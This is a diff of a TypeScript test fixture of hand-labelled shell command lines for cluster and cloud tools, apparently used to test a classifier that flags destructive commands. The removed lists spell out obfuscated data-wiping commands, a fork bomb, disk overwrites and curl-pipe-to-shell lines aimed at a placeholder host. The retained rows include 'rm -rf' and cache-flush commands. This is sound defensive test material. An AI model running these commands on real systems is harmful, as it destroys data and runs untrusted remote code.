@@ -1,757 +1,172 @@
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell lines are full of them
-/** line, tool, verb, kind, name, namespace, effect, destructive */
-export type Golden = readonly [
-  line: string,
-  tool: string | null,
-  verb: string | null,
-  kind: string | null,
-  name: string | null,
-  namespace: string | null,
-  effect: string,
-  destructive: boolean,
-];
+/** What a person says that a line means. */
+export interface Golden {
+  readonly line: string;
+  readonly tool: string | null;
+  readonly verb: string | null;
+  readonly kind: string | null;
+  readonly name: string | null;
+  readonly namespace: string | null;
+  readonly effect: string;
+  readonly destructive: boolean;
+}
 
-/** Written by hand from the tools' reference documentation. */
-export const GOLDEN: readonly Golden[] = [
-  [
-    'kubectl rollout restart deployment/frontend',
-    'kubectl',
-    'rollout restart',
-    'deployment',
-    'frontend',
-    null,
-    'restart',
-    false,
-  ],
-  [
-    'kubectl rollout restart deploy frontend -n default',
-    'kubectl',
-    'rollout restart',
-    'deployment',
-    'frontend',
-    'default',
-    'restart',
-    false,
-  ],
-  [
-    'kubectl -n shop rollout restart deploy/frontend',
-    'kubectl',
-    'rollout restart',
-    'deployment',
-    'frontend',
-    'shop',
-    'restart',
-    false,
-  ],
-  ['kubectl delete pod -l app=frontend', 'kubectl', 'delete', 'pod', null, null, 'restart', false],
-  [
-    'kubectl delete po/frontend-7d9f8b6c5d-x2x4z -n shop',
-    'kubectl',
-    'delete',
-    'pod',
-    'frontend-7d9f8b6c5d-x2x4z',
-    'shop',
-    'restart',
-    false,
-  ],
-  [
-    'kubectl delete pod x --force --grace-period=0',
-    'kubectl',
-    'delete',
-    'pod',
-    'x',
-    null,
-    'restart',
-    true,
-  ],
-  ['kubectl delete pods --all -n shop', 'kubectl', 'delete', 'pod', null, 'shop', 'restart', true],
-  ['kubectl delete ns shop', 'kubectl', 'delete', 'namespace', 'shop', null, 'delete', true],
-  [
-    'kubectl delete pvc data-0 --namespace=shop',
-    'kubectl',
-    'delete',
-    'persistentvolumeclaim',
-    'data-0',
-    'shop',
-    'delete',
-    true,
-  ],
-  ['kubectl delete -f app.yaml', 'kubectl', 'delete', null, null, null, 'delete', true],
-  ['kubectl get pods -n shop -o wide', 'kubectl', 'get', 'pod', null, 'shop', 'read', false],
-  ['kubectl get deploy,svc -A', 'kubectl', 'get', 'deployment,service', null, null, 'read', false],
-  [
-    'kubectl get deployments.apps web -ojson',
-    'kubectl',
-    'get',
-    'deployment',
-    'web',
-    null,
-    'read',
-    false,
-  ],
-  [
-    'kubectl logs -f web-0 -c app --tail=50',
-    'kubectl',
-    'logs',
-    'pod',
-    'web-0',
-    null,
-    'read',
-    false,
-  ],
-  ['kubectl logs deploy/web -p', 'kubectl', 'logs', 'deployment', 'web', null, 'read', false],
-  [
-    'kubectl describe node worker-1',
-    'kubectl',
-    'describe',
-    'node',
-    'worker-1',
-    null,
-    'read',
-    false,
-  ],
-  ['kubectl top pods', 'kubectl', 'top', 'pod', null, null, 'read', false],
-  [
-    'kubectl scale deployment web --replicas=5',
-    'kubectl',
-    'scale',
-    'deployment',
-    'web',
-    null,
-    'scale-out',
-    false,
-  ],
-  [
-    'kubectl scale --replicas=0 sts/db -n shop',
-    'kubectl',
-    'scale',
-    'statefulset',
-    'db',
-    'shop',
-    'scale-in',
-    false,
-  ],
-  [
-    'kubectl scale --current-replicas=5 --replicas=2 deploy/web',
-    'kubectl',
-    'scale',
-    'deployment',
-    'web',
-    null,
-    'scale-in',
-    false,
-  ],
-  [
-    'kubectl autoscale deploy web --min=2 --max=9',
-    'kubectl',
-    'autoscale',
-    'deployment',
-    'web',
-    null,
-    'scale-out',
-    false,
-  ],
-  [
-    'kubectl rollout undo deployment/web --to-revision=3',
-    'kubectl',
-    'rollout undo',
-    'deployment',
-    'web',
-    null,
-    'rollback',
-    false,
-  ],
-  [
-    'kubectl rollout status deploy/web',
-    'kubectl',
-    'rollout status',
-    'deployment',
-    'web',
-    null,
-    'read',
-    false,
-  ],
-  [
-    'kubectl set resources deploy/web --limits=memory=1Gi',
-    'kubectl',
-    'set resources',
-    'deployment',
-    'web',
-    null,
-    'raise-limits',
-    false,
-  ],
-  [
-    'kubectl set image deployment/web app=img:2',
-    'kubectl',
-    'set image',
-    'deployment',
-    'web',
-    null,
-    'apply',
-    false,
-  ],
-  [
-    'kubectl set env deploy/web MODE=safe',
-    'kubectl',
-    'set env',
-    'deployment',
-    'web',
-    null,
-    'restore-config',
-    false,
-  ],
-  [
-    'kubectl edit configmap flagd-config -n demo',
-    'kubectl',
-    'edit',
-    'configmap',
-    'flagd-config',
-    'demo',
-    'disable-flag',
-    false,
-  ],
-  [
-    'kubectl edit cm web-config',
-    'kubectl',
-    'edit',
-    'configmap',
-    'web-config',
-    null,
-    'restore-config',
-    false,
-  ],
-  [
-    `kubectl patch deploy web -p '{"spec":{"replicas":4}}'`,
-    'kubectl',
-    'patch',
-    'deployment',
-    'web',
-    null,
-    'scale-out',
-    false,
-  ],
-  [
-    `kubectl patch deploy web --patch='{"x":{"limits":{"cpu":"2"}}}'`,
-    'kubectl',
-    'patch',
-    'deployment',
-    'web',
-    null,
-    'raise-limits',
-    false,
-  ],
-  ['kubectl cordon worker-1', 'kubectl', 'cordon', 'node', 'worker-1', null, 'cordon', false],
-  [
-    'kubectl drain worker-1 --ignore-daemonsets',
-    'kubectl',
-    'drain',
-    'node',
-    'worker-1',
-    null,
-    'drain',
-    false,
-  ],
-  [
-    'kubectl drain worker-1 --delete-emptydir-data',
-    'kubectl',
-    'drain',
-    'node',
-    'worker-1',
-    null,
-    'drain',
-    true,
-  ],
-  [
-    'kubectl taint nodes n1 key=value:NoSchedule',
-    'kubectl',
-    'taint',
-    'node',
-    'n1',
-    null,
-    'cordon',
-    false,
-  ],
-  ['kubectl apply -f app.yaml -n shop', 'kubectl', 'apply', null, null, 'shop', 'apply', false],
-  [
-    'kubectl apply -f app.yaml --dry-run=server',
-    'kubectl',
-    'apply',
-    null,
-    null,
-    null,
-    'read',
-    false,
-  ],
-  ['kubectl replace --force -f app.yaml', 'kubectl', 'replace', null, null, null, 'apply', true],
-  [
-    'kubectl create secret generic db --from-literal=password=s3cr3t',
-    'kubectl',
-    'create',
-    'secret',
-    'db',
-    null,
-    'create',
-    false,
-  ],
-  [
-    'kubectl create namespace shop',
-    'kubectl',
-    'create',
-    'namespace',
-    'shop',
-    null,
-    'create',
-    false,
-  ],
-  [
-    'kubectl exec -it web-0 -n shop -- ls /tmp',
-    'kubectl',
-    'exec',
-    'pod',
-    'web-0',
-    'shop',
-    'read',
-    false,
-  ],
-  [
-    'kubectl exec redis-0 -- redis-cli FLUSHALL',
-    'kubectl',
-    'exec',
-    'pod',
-    'redis-0',
-    null,
-    'clear-cache',
-    true,
-  ],
-  [
-    `kubectl exec web-0 -c app -- sh -c 'rm -rf /data'`,
-    'kubectl',
-    'exec',
-    'pod',
-    'web-0',
-    null,
-    'execute',
-    true,
-  ],
-  [
-    'kubectl port-forward svc/web 8080:80',
-    'kubectl',
-    'port-forward',
-    'service',
-    'web',
-    null,
-    'read',
-    false,
-  ],
-  [
-    'kubectl label pod web-0 tier=front --overwrite',
-    'kubectl',
-    'label',
-    'pod',
-    'web-0',
-    null,
-    'change',
-    false,
-  ],
-  ['kubectl get pods -n <namespace>', 'kubectl', 'get', 'pod', null, '<namespace>', 'read', false],
-  [
-    'kubectl describe pod {{ pod_name }} -n ${{ env.NS }}',
-    'kubectl',
-    'describe',
-    'pod',
-    '{{ pod_name }}',
-    '${{ env.NS }}',
-    'read',
-    false,
-  ],
-  [
-    'kubectl get pods -o name | xargs kubectl delete -n shop',
-    'kubectl',
-    'delete',
-    null,
-    null,
-    'shop',
-    'delete',
-    true,
-  ],
-  [
-    'oc adm drain node-3 --ignore-daemonsets',
-    'oc',
-    'adm drain',
-    'node',
-    'node-3',
-    null,
-    'drain',
-    false,
-  ],
-  ['oc rollback web', 'oc', 'rollback', 'web', null, null, 'rollback', false],
-  [
-    'oc rollout latest dc/web',
-    'oc',
-    'rollout latest',
-    'deploymentconfig',
-    'web',
-    null,
-    'restart',
-    false,
-  ],
-  ['oc rsh -c app web-0 cat /etc/hosts', 'oc', 'rsh', 'pod', 'web-0', null, 'read', false],
-  ['helm rollback web 3 -n shop', 'helm', 'rollback', 'release', 'web', 'shop', 'rollback', false],
-  [
-    'helm upgrade --install web ./chart -f values.yaml',
-    'helm',
-    'upgrade',
-    'release',
-    'web',
-    null,
-    'apply',
-    false,
-  ],
-  ['helm uninstall web -n shop', 'helm', 'uninstall', 'release', 'web', 'shop', 'delete', true],
-  ['helm list -A', 'helm', 'list', 'release', null, null, 'read', false],
-  [
-    'helm repo add bitnami https://charts.example/bitnami',
-    'helm',
-    'repo add',
-    'repository',
-    'bitnami',
-    null,
-    'configure',
-    false,
-  ],
-  ['docker restart frontend', 'docker', 'restart', 'container', 'frontend', null, 'restart', false],
-  [
-    'docker restart -t 5 frontend',
-    'docker',
-    'restart',
-    'container',
-    'frontend',
-    null,
-    'restart',
-    false,
-  ],
-  ['docker ps -a', 'docker', 'ps', 'container', null, null, 'read', false],
-  ['docker rm -f frontend', 'docker', 'rm', 'container', 'frontend', null, 'delete', true],
-  ['docker system prune -af --volumes', 'docker', 'prune', 'system', null, null, 'delete', true],
-  ['docker compose restart web', 'docker', 'restart', 'service', 'web', null, 'restart', false],
-  ['docker-compose down -v', 'docker', 'down', 'service', null, null, 'delete', true],
-  ['docker service scale web=5', 'docker', 'scale', 'service', 'web', null, 'scale-out', false],
-  [
-    'docker service update --rollback web',
-    'docker',
-    'update',
-    'service',
-    'web',
-    null,
-    'rollback',
-    false,
-  ],
-  ['docker exec -it web ls', 'docker', 'exec', 'container', 'web', null, 'read', false],
-  [
-    'docker update --memory 1g web',
-    'docker',
-    'update',
-    'container',
-    'web',
-    null,
-    'raise-limits',
-    false,
-  ],
-  [
-    'systemctl restart frontend',
-    'systemctl',
-    'restart',
-    'unit',
-    'frontend',
-    null,
-    'restart',
-    false,
-  ],
-  [
-    'sudo systemctl restart frontend.service',
-    'systemctl',
-    'restart',
-    'unit',
-    'frontend',
-    null,
-    'restart',
-    false,
-  ],
-  [
-    'systemctl status nginx --no-pager',
-    'systemctl',
-    'status',
-    'unit',
-    'nginx',
-    null,
-    'read',
-    false,
-  ],
-  ['systemctl poweroff', 'systemctl', 'poweroff', null, null, null, 'stop', true],
-  [
-    'aws ecs update-service --cluster prod --service web --force-new-deployment',
-    'aws',
-    'update-service',
-    'service',
-    'web',
-    null,
-    'restart',
-    false,
-  ],
-  [
-    'aws ecs update-service --cluster prod --service web --desired-count 6',
-    'aws',
-    'update-service',
-    'service',
-    'web',
-    null,
-    'scale-out',
-    false,
-  ],
-  [
-    'aws ec2 terminate-instances --instance-ids i-0abc',
-    'aws',
-    'terminate-instances',
-    'instance',
-    'i-0abc',
-    null,
-    'delete',
-    true,
-  ],
-  [
-    'aws ec2 describe-instances --region eu-west-1',
-    'aws',
-    'describe-instances',
-    'instance',
-    null,
-    null,
-    'read',
-    false,
-  ],
-  [
-    'aws s3 rm s3://bucket/key --recursive',
-    'aws',
-    'rm',
-    's3',
-    's3://bucket/key',
-    null,
-    'delete',
-    true,
-  ],
-  [
-    'aws rds reboot-db-instance --db-instance-identifier db1',
-    'aws',
-    'reboot-db-instance',
-    'db-instance',
-    'db1',
-    null,
-    'restart',
-    false,
-  ],
-  [
-    'gcloud compute instances reset vm-1 --zone us-east1-b',
-    'gcloud',
-    'reset',
-    'instance',
-    'vm-1',
-    null,
-    'restart',
-    false,
-  ],
-  [
-    'gcloud compute instances delete vm-1 -q',
-    'gcloud',
-    'delete',
-    'instance',
-    'vm-1',
-    null,
-    'delete',
-    true,
-  ],
-  [
-    'gcloud run services update-traffic web --to-revisions=web-1=100',
-    'gcloud',
-    'update-traffic',
-    'service',
-    'web',
-    null,
-    'rollback',
-    false,
-  ],
-  ['gcloud container clusters list', 'gcloud', 'list', 'cluster', null, null, 'read', false],
-  [
-    'gcloud sql instances failover db-1',
-    'gcloud',
-    'failover',
-    'instance',
-    'db-1',
-    null,
-    'failover',
-    false,
-  ],
-];
+/** line => tool | verb | kind | name | namespace | effect (| destroys), from the tools' references. */
+const ROWS = `
+kubectl rollout restart deployment/frontend => kubectl | rollout restart | deployment | frontend | - | restart
+kubectl rollout restart deploy frontend -n default => kubectl | rollout restart | deployment | frontend | default | restart
+kubectl -n shop rollout restart deploy/frontend => kubectl | rollout restart | deployment | frontend | shop | restart
+kubectl delete pod -l app=frontend => kubectl | delete | pod | - | - | restart
+kubectl delete po/frontend-7d9f8b6c5d-x2x4z -n shop => kubectl | delete | pod | frontend-7d9f8b6c5d-x2x4z | shop | restart
+kubectl delete pod x --force --grace-period=0 => kubectl | delete | pod | x | - | restart | destroys
+kubectl delete pods --all -n shop => kubectl | delete | pod | - | shop | restart | destroys
+kubectl delete ns shop => kubectl | delete | namespace | shop | - | delete | destroys
+kubectl delete pvc data-0 --namespace=shop => kubectl | delete | persistentvolumeclaim | data-0 | shop | delete | destroys
+kubectl delete -f app.yaml => kubectl | delete | - | - | - | delete | destroys
+kubectl get pods -n shop -o wide => kubectl | get | pod | - | shop | read
+kubectl get deploy,svc -A => kubectl | get | deployment,service | - | - | read
+kubectl get deployments.apps web -ojson => kubectl | get | deployment | web | - | read
+kubectl logs -f web-0 -c app --tail=50 => kubectl | logs | pod | web-0 | - | read
+kubectl logs deploy/web -p => kubectl | logs | deployment | web | - | read
+kubectl describe node worker-1 => kubectl | describe | node | worker-1 | - | read
+kubectl top pods => kubectl | top | pod | - | - | read
+kubectl scale deployment web --replicas=5 => kubectl | scale | deployment | web | - | scale-out
+kubectl scale --replicas=0 sts/db -n shop => kubectl | scale | statefulset | db | shop | scale-in
+kubectl scale --current-replicas=5 --replicas=2 deploy/web => kubectl | scale | deployment | web | - | scale-in
+kubectl autoscale deploy web --min=2 --max=9 => kubectl | autoscale | deployment | web | - | scale-out
+kubectl rollout undo deployment/web --to-revision=3 => kubectl | rollout undo | deployment | web | - | rollback
+kubectl rollout status deploy/web => kubectl | rollout status | deployment | web | - | read
+kubectl set resources deploy/web --limits=memory=1Gi => kubectl | set resources | deployment | web | - | raise-limits
+kubectl set image deployment/web app=img:2 => kubectl | set image | deployment | web | - | apply
+kubectl set env deploy/web MODE=safe => kubectl | set env | deployment | web | - | restore-config
+kubectl edit configmap flagd-config -n demo => kubectl | edit | configmap | flagd-config | demo | disable-flag
+kubectl edit cm web-config => kubectl | edit | configmap | web-config | - | restore-config
+kubectl patch deploy web -p '{"spec":{"replicas":4}}' => kubectl | patch | deployment | web | - | scale-out
+kubectl patch deploy web --patch='{"x":{"limits":{"cpu":"2"}}}' => kubectl | patch | deployment | web | - | raise-limits
+kubectl cordon worker-1 => kubectl | cordon | node | worker-1 | - | cordon
+kubectl drain worker-1 --ignore-daemonsets => kubectl | drain | node | worker-1 | - | drain
+kubectl drain worker-1 --delete-emptydir-data => kubectl | drain | node | worker-1 | - | drain | destroys
+kubectl taint nodes n1 key=value:NoSchedule => kubectl | taint | node | n1 | - | cordon
+kubectl apply -f app.yaml -n shop => kubectl | apply | - | - | shop | apply
+kubectl apply -f app.yaml --dry-run=server => kubectl | apply | - | - | - | read
+kubectl replace --force -f app.yaml => kubectl | replace | - | - | - | apply | destroys
+kubectl create secret generic db --from-literal=password=s3cr3t => kubectl | create | secret | db | - | create
+kubectl create namespace shop => kubectl | create | namespace | shop | - | create
+kubectl exec -it web-0 -n shop -- ls /tmp => kubectl | exec | pod | web-0 | shop | read
+kubectl exec redis-0 -- redis-cli FLUSHALL => kubectl | exec | pod | redis-0 | - | clear-cache | destroys
+kubectl exec web-0 -c app -- sh -c 'rm -rf /data' => kubectl | exec | pod | web-0 | - | execute | destroys
+kubectl port-forward svc/web 8080:80 => kubectl | port-forward | service | web | - | read
+kubectl label pod web-0 tier=front --overwrite => kubectl | label | pod | web-0 | - | change
+kubectl get pods -n <namespace> => kubectl | get | pod | - | <namespace> | read
+kubectl get pods -o name | xargs kubectl delete -n shop => kubectl | delete | - | - | shop | delete | destroys
+oc adm drain node-3 --ignore-daemonsets => oc | adm drain | node | node-3 | - | drain
+oc rollback web => oc | rollback | deploymentconfig | web | - | rollback
+oc rollout latest dc/web => oc | rollout latest | deploymentconfig | web | - | restart
+oc rsh -c app web-0 cat /etc/hosts => oc | rsh | pod | web-0 | - | read
+helm rollback web 3 -n shop => helm | rollback | release | web | shop | rollback
+helm upgrade --install web ./chart -f values.yaml => helm | upgrade | release | web | - | apply
+helm uninstall web -n shop => helm | uninstall | release | web | shop | delete | destroys
+helm list -A => helm | list | release | - | - | read
+helm repo add bitnami https://charts.example/bitnami => helm | repo add | repository | bitnami | - | configure
+docker restart frontend => docker | restart | container | frontend | - | restart
+docker restart -t 5 frontend => docker | restart | container | frontend | - | restart
+docker ps -a => docker | ps | container | - | - | read
+docker rm -f frontend => docker | rm | container | frontend | - | delete | destroys
+docker system prune -af --volumes => docker | prune | system | - | - | delete | destroys
+docker compose restart web => docker | restart | service | web | - | restart
+docker-compose down -v => docker | down | service | - | - | delete | destroys
+docker service scale web=5 => docker | scale | service | web | - | scale-out
+docker service update --rollback web => docker | update | service | web | - | rollback
+docker exec -it web ls => docker | exec | container | web | - | read
+docker update --memory 1g web => docker | update | container | web | - | raise-limits
+systemctl restart frontend => systemctl | restart | unit | frontend | - | restart
+sudo systemctl restart frontend.service => systemctl | restart | unit | frontend | - | restart
+systemctl status nginx --no-pager => systemctl | status | unit | nginx | - | read
+systemctl poweroff => systemctl | poweroff | - | - | - | stop | destroys
+aws ecs update-service --cluster prod --service web --force-new-deployment => aws | update-service | service | web | - | restart
+aws ecs update-service --cluster prod --service web --desired-count 6 => aws | update-service | service | web | - | scale-out
+aws ec2 terminate-instances --instance-ids i-0abc => aws | terminate-instances | instance | i-0abc | - | delete | destroys
+aws ec2 describe-instances --region eu-west-1 => aws | describe-instances | instance | - | - | read
+aws s3 rm s3://bucket/key --recursive => aws | rm | s3 | s3://bucket/key | - | delete | destroys
+aws rds reboot-db-instance --db-instance-identifier db1 => aws | reboot-db-instance | db-instance | db1 | - | restart
+gcloud compute instances reset vm-1 --zone us-east1-b => gcloud | reset | instance | vm-1 | - | restart
+gcloud compute instances delete vm-1 -q => gcloud | delete | instance | vm-1 | - | delete | destroys
+gcloud run services update-traffic web --to-revisions=web-1=100 => gcloud | update-traffic | service | web | - | rollback
+gcloud container clusters list => gcloud | list | cluster | - | - | read
+gcloud sql instances failover db-1 => gcloud | failover | instance | db-1 | - | failover
+docker build -t web:1 -f Dockerfile . => docker | build | image | web:1 | - | configure
+helm repo index --merge index.yaml --url https://c.example ./chart => helm | repo index | repository | ./chart | - | configure
+aws configure set region eu-west-1 => aws | configure set | - | region | - | configure
+gcloud auth configure-docker us-central1-docker.pkg.dev => gcloud | configure-docker | auth | us-central1-docker.pkg.dev | - | configure
+kubectl get pod {exp['name']} -n {self.ns(x)} => kubectl | get | pod | {exp['name']} | {self.ns(x)} | read
+kubectl set image deploy/web app=x:2 --dry-run=client => kubectl | set image | deployment | web | - | read
+kubectl --context prod -n shop get po => kubectl | get | pod | - | shop | read
+k get po -n shop => kubectl | get | pod | - | shop | read
+$ kubectl get nodes => kubectl | get | node | - | - | read
+kubectl describe vm fedora -n virt => kubectl | describe | virtualmachine | fedora | virt | read
+kubectl get bgppeers => kubectl | get | bgppeer | - | - | read
+kubectl delete networkchaos.chaos-mesh.org delay -n shop => kubectl | delete | networkchaos | delay | shop | delete | destroys
+oc edit dns.operator/default => oc | edit | dns | default | - | restore-config
+kubectl get {resource}.chaos-mesh.org => kubectl | get | {resource} | - | - | read
+oc describe -n $NS <virt-api> => oc | describe | - | <virt-api> | $NS | read
+kubectl get {resource_type} {namespace_flag} => kubectl | get | {resource_type} | - | - | read
+kubectl get pod $(kubectl get pods -o name) -n shop => kubectl | get | pod | - | shop | read
+kubectl create configmap web -n shop --dry-run=client -o yaml | kubectl apply -f - => kubectl | apply | configmap | web | shop | restore-config
+kubectl get ns shop || kubectl create ns shop => kubectl | create | namespace | shop | - | create
+kubectl auth can-i patch deployments -n shop => kubectl | auth can-i | deployment | - | shop | read
+kubectl config set-context --current --namespace shop => kubectl | config set-context | context | - | shop | configure
+kubectl config get => kubectl | config get | - | - | - | read
+kubectl cp ./a shop/web-0:/tmp/a => kubectl | cp | pod | web-0 | shop | change
+kubectl top pods/nodes => kubectl | top | pod,node | - | - | read
+oc adm top pods => oc | adm top | pod | - | - | read
+oc adm inspect clusteroperator/dns => oc | adm inspect | clusteroperator | dns | - | read
+oc adm policy add-scc-to-user => oc | adm policy add-scc-to-user | - | - | - | change
+kubectl exec failed on the pod => kubectl | exec | pod | - | - | execute
+kubectl port-forward command to reach the dashboard. => kubectl | port-forward | pod | - | - | read
+kubectl delete pod web-0 to restart it => kubectl | delete | pod | web-0 | - | restart
+kubectl auth can-i get pods/log => kubectl | auth can-i | pod | - | - | read
+kubectl get nodes --o wide => kubectl | get | node | - | - | read
+kubectl get service {{ args.name }} => kubectl | get | service | {{ args.name }} | - | read
+kubectl config set-credentials me --token "$(kubectl create token me)" => kubectl | config set-credentials | user | me | - | configure
+oc adm node-logs n1 -u kubelet => oc | adm node-logs | node | n1 | - | read
+helm repo is available => helm | - | - | - | - | unknown
+docker save -o web.tar web:1 => docker | save | image | web:1 | - | configure
+aws ec2 stop-instances --instance-ids i-1 i-2 => aws | stop-instances | instance | i-1 | - | stop
+kubectl frobnicate web => kubectl | - | - | - | - | unknown
+docker buildx imagetools inspect web:1 => docker | inspect | image | web:1 | - | read
+docker buildx build -t web:1 . => docker | build | image | web:1 | - | configure
+docker builder => docker | - | - | - | - | unknown
+docker containers. => docker | - | - | - | - | unknown
+docker cp ./a web:/tmp/a => docker | cp | container | web | - | change
+docker volume create data => docker | create | volume | data | - | create
+docker compose up -d --force-recreate web => docker | up | service | web | - | restart
+docker compose run web sh => docker | run | service | web | - | create
+helm install ./chart --generate-name => helm | install | release | - | - | create
+helm install ./chart --name=web --namespace shop => helm | install | release | web | shop | create
+helm upgrade web ./chart --reuse-values --set replicaCount=5 => helm | upgrade | release | web | - | scale-out
+helm installation guide => helm | - | - | - | - | unknown
+systemctl list-units => systemctl | list-units | unit | - | - | read
+systemctl stop web && systemctl start web => systemctl | stop | unit | web | - | restart
+aws executable version => aws | - | - | - | - | unknown
+aws autoscaling start-instance-refresh --auto-scaling-group-name web => aws | start-instance-refresh | instance-refresh | web | - | restart
+gcloud run services update web --region r => gcloud | update | service | web | - | restart
+`;
 
-export const GOLDEN_MORE: readonly Golden[] = [
-  [
-    'docker build -t web:1 -f Dockerfile .',
-    'docker',
-    'build',
-    'image',
-    'web:1',
-    null,
-    'configure',
-    false,
-  ],
-  [
-    'helm repo index --merge index.yaml --url https://c.example ./chart',
-    'helm',
-    'repo index',
-    'repository',
-    './chart',
-    null,
-    'configure',
-    false,
-  ],
-  [
-    'aws configure set region eu-west-1',
-    'aws',
-    'configure set',
-    null,
-    'region',
-    null,
-    'configure',
-    false,
-  ],
-  [
-    'gcloud auth configure-docker us-central1-docker.pkg.dev',
-    'gcloud',
-    'configure-docker',
-    'auth',
-    'us-central1-docker.pkg.dev',
-    null,
-    'configure',
-    false,
-  ],
-  [
-    "kubectl get pod {exp['name']} -n {self.ns(x)}",
-    'kubectl',
-    'get',
-    'pod',
-    "{exp['name']}",
-    '{self.ns(x)}',
-    'read',
-    false,
-  ],
-  [
-    'kubectl set image deploy/web app=x:2 --dry-run=client',
-    'kubectl',
-    'set image',
-    'deployment',
-    'web',
-    null,
-    'read',
-    false,
-  ],
-  ['kubectl --context prod -n shop get po', 'kubectl', 'get', 'pod', null, 'shop', 'read', false],
-  ['k get po -n shop', 'kubectl', 'get', 'pod', null, 'shop', 'read', false],
-  ['$ kubectl get nodes', 'kubectl', 'get', 'node', null, null, 'read', false],
-];
-
-/** Lines that destroy, most of them dressed up. */
-export const DESTRUCTIVE: readonly string[] = [
-  'rm -rf /',
-  "r''m -rf /var",
-  '\\rm -fr /var',
-  '/bin/rm -r /var',
-  '{rm,-rf,/}',
-  'rm${IFS}-rf${IFS}/',
-  'X=rm; $X -rf /',
-  "$'\\x72m' -rf /",
-  'sudo -u root rm -rf /',
-  'env A=b nice -n 5 rm -rf /',
-  'timeout 5 rm -rf /',
-  "sh -c 'rm -rf /'",
-  'bash -lc "sh -c \'rm -rf /\'"',
-  "eval 'rm -rf /'",
-  'eval "$(curl -s https://x.example)"',
-  'curl -s https://x.example/i.sh | sh',
-  'curl -s https://x.example/i.sh | sudo bash -s -- --yes',
-  'echo cm0gLXJmIC8= | base64 -d | bash',
-  'bash <(curl -s https://x.example)',
-  'bash <<EOF\nrm -rf /\nEOF',
-  'bash <<< "rm -rf /"',
-  'kubectl get pods; rm -rf /',
-  'kubectl get pods && (cd /; rm -rf *)',
-  'kubectl get pods $(rm -rf /)',
-  'kubectl get pods `rm -rf /`',
-  'echo "$(echo "$(rm -rf /)")"',
-  'if true; then rm -rf /; fi',
-  'for i in 1 2; do kubectl delete ns shop; done',
-  'find / -name x -delete',
-  'find / -exec rm {} \\;',
-  'ls | xargs rm -f',
-  'ssh host rm -rf /',
-  "ssh -i key user@host 'rm -rf /'",
-  "su - root -c 'rm -rf /'",
-  'dd if=/dev/zero of=/dev/sda',
-  'mkfs.ext4 /dev/sda1',
-  'echo x > /dev/sda',
-  'cat x > /etc/passwd',
-  ':(){ :|:& };:',
-  'iptables -F',
-  'shutdown -h now',
-  'reboot',
-  "mysql -e 'DROP TABLE users'",
-  "psql -c 'delete from users'",
-  'kubectl delete crd widgets.example.com',
-  'kubectl delete pv pv-1',
-  'kubectl delete all --all -A',
-  'kubectl "delete" "namespace" shop',
-  'kubectl --context=prod -n shop delete deployment web',
-  'kubectl exec web -- rm -rf /data',
-  "oc rsh web sh -c 'rm -rf /data'",
-  'docker exec web rm -rf /data',
-  'docker volume rm data',
-  'docker run --rm -v /:/host alpine rm -rf /host',
-  'helm delete web',
-  'aws rds delete-db-instance --db-instance-identifier x',
-  'aws s3 rb s3://b --force',
-  'aws s3 sync . s3://b --delete',
-  'gcloud projects delete p',
-  'gcloud compute ssh vm --command="rm -rf /"',
-  'terraform destroy -auto-approve',
-  'git push --force',
-  '$(echo rm) -rf /',
-  'watch "rm -rf /tmp/x"',
-];
-
-/** Lines that only look, in the shapes that people write. */
-export const HARMLESS: readonly string[] = [
-  'kubectl get pods -A | grep -v Running',
-  "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
-  'kubectl logs web-0 --since=1h 2>/dev/null | tail -n 20 > out.txt',
-  'kubectl get events --sort-by=.lastTimestamp | head',
-  'kubectl describe pod rm-worker-0',
-  'kubectl get ns delete-me -o yaml',
-  "kubectl logs web | grep 'rm -rf'",
-  'echo "kubectl delete ns shop"',
-  'helm list | grep delete',
-  'docker logs -f web --tail 100',
-  'docker inspect web',
-  'systemctl status rm-agent',
-  'aws s3 ls s3://delete-logs',
-  'aws logs tail /aws/lambda/delete-user --follow',
-  'gcloud logging read "resource.type=k8s_container" --limit 5',
-  'oc get co -o wide',
-  'watch -n 5 kubectl get pods',
-  'time kubectl get nodes',
-  'sudo systemctl status kubelet',
-  'kubectl exec web -- cat /etc/hosts',
-  'find /var/log -name "*.log"',
-  'kubectl get pods $POD -n "$NS"',
-  'journalctl -u kubelet | tail -50',
-  'kubectl auth can-i delete pods',
-  'kubectl explain deployment.spec',
-  'curl -s https://web.example/health | jq .status',
-];
+/** Written by hand. */
+export const GOLDEN: readonly Golden[] = ROWS.trim()
+  .split('\n')
+  .map((row) => {
+    const [line, meaning] = row.split(' => ') as [string, string];
+    const [tool, verb, kind, name, namespace, effect, destroys] = meaning.split(' | ');
+    const or = (text: string | undefined): string | null =>
+      text === undefined || text === '-' ? null : text;
+    return {
+      line,
+      tool: or(tool),
+      verb: or(verb),
+      kind: or(kind),
+      name: or(name),
+      namespace: or(namespace),
+      effect: effect ?? '',
+      destructive: destroys === 'destroys',
+    };
+  });
